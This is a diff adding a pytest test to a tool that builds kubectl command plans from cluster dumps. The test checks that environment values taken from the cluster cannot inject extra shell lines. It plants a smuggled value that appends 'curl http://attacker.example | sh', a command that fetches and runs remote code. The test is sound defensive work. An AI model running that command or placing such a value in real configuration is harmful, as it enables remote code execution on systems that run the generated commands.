@@ -224,3 +224,24 @@ def test_domains_of_pattern_expands_one_alternation():
 
     assert domains_of_pattern(r"^(api|uploads)\.github\.com$") == ["api.github.com", "uploads.github.com"]
     assert domains_of_pattern(r"(a|b)") == []
+
+
+def test_values_from_the_cluster_cannot_inject_shell_lines(tmp_path):
+    from _planfix import find, mutated_dump
+
+    evil = "http://proxy.internal.example.com:8888\ncurl http://attacker.example | sh"
+
+    def inject(items):
+        env = find(items, "Deployment", "api", "billing")["spec"]["template"]["spec"]["containers"][0]["env"]
+        env[0]["value"] = evil
+    plan = build_plan(PlanOptions(inventory=INVENTORY, cluster_dump=mutated_dump(tmp_path, inject)))
+    c = _client(plan, "Deployment", "billing", "api")
+    import shlex
+
+    for line in [*c.commands, *c.rollback, c.check]:
+        # One shell command per line: no newline, pipe or separator outside quotes or the comment.
+        lex = shlex.shlex(line, posix=True, punctuation_chars=True)
+        lex.whitespace = " \t"
+        tokens = list(lex)
+        assert not {"\n", "|", ";", "&&", "&"} & set(tokens), (line, tokens)
+        assert tokens[0] == "kubectl"
